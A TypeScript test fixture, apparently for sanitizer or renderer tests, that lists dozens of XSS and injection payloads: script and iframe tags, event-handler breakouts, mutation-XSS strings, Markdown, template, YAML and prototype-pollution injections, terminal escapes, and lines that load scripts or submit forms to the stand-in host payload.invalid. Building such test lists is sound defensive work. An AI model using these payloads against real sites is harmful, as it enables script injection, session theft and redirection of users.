// Texts that would do something if any door of the page took them for more than text. Each that runs sets the property `pwned`
// somewhere, shows a dialog, or asks for something from payload.invalid, a name that no network resolves.

const run = "window.pwned=1";
const away = "https://payload.invalid/";

const byKind = {
	/** Markup that runs when it is parsed. */
	elements: [
		`<script>${run}</script>`,
		`"><script src="${away}a.js"></script>`,
		`<img src=x onerror=${run}>`,
		`"><img src=x onerror="${run}"><"`,
		`'><img src='x' onerror='${run}'>`,
		`<svg onload=${run}>`,
		`<svg><script href="${away}b.js"></script></svg>`,
		`<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
		`<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
		`<iframe src="javascript:parent.pwned=1"></iframe>`,
		`<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe>`,
		`<object data="javascript:${run}"></object>`,
		`<embed src="${away}c.svg">`,
		`<video><source onerror="${run}"></video>`,
		`<details open ontoggle=${run}>x</details>`,
		`<input autofocus onfocus=${run}>`,
		`<body onload=${run}>`,
		`<marquee onstart=${run}>x</marquee>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
		`<noscript><p title="</noscript><img src=x onerror=${run}>">`,
		`<!--><img src=x onerror=${run}>-->`,
		`<template><img src=x onerror=${run}></template>`,
	],
	/** Markup that leads away, or takes the place of something. */
	frames: [
		`<base href="${away}">`,
		`<meta http-equiv="refresh" content="0;url=${away}">`,
		`<link rel="stylesheet" href="${away}d.css">`,
		`<form action="${away}"><button>Apply</button></form>`,
		`<form id="app"><input name="innerHTML"></form>`,
		`<a href="${away}" target="_top" autofocus>x</a>`,
		`<style>*{background:url(${away}e.png)}</style>`,
		`</style><script>${run}</script>`,
		`</title></textarea></script><img src=x onerror=${run}>`,
		`]]></svg><img src=x onerror=${run}>`,
	],
	/** What is in no element, but runs where it is put into an attribute, an address or a script. */
	bare: [
		`" onmouseover="${run}" x="`,
		`' autofocus onfocus='${run}`,
		"`-alert(1)-`",
		"';alert(document.domain)//",
		`\\";alert(1);//`,
		`javascript:alert(1)`,
		`JaVaScRiPt\t:alert(1)`,
		`data:text/html,<script>opener.pwned=1</script>`,
		`vbscript:msgbox(1)`,
		`&#106;avascript:alert(1)`,
		`%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
		`&lt;img src=x onerror=${run}&gt;`,
		"\\u003cimg src=x onerror=window.pwned=1\\u003e",
		`//payload.invalid/f.png`,
		`url(${away}g.png)`,
	],
	/** Languages that are read here: Markdown, templates, YAML, terminals. */
	languages: [
		`[x](javascript:alert(1))`,
		`![x](${away}h.png)`,
		`![x](x"onerror="${run})`,
		`<javascript:alert(1)>`,
		"${alert(1)}",
		"{{constructor.constructor('window.pwned=1')()}}",
		"{@html '<img src=x onerror=window.pwned=1>'}",
		'{{ js "<script>window.pwned=1</script>" }}',
		"$(alert 1)",
		`!!js/function 'function(){window.pwned=1}'`,
		`{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}}`,
		"\u001b]8;;javascript:alert(1)\u0007click\u001b]8;;\u0007\u001b[2J",
		"\u202e\u0000\ufeff<img src=x onerror=window.pwned=1>\u2028",
	],
} as const;

export const payloads: readonly string[] = Object.values(byKind).flat();
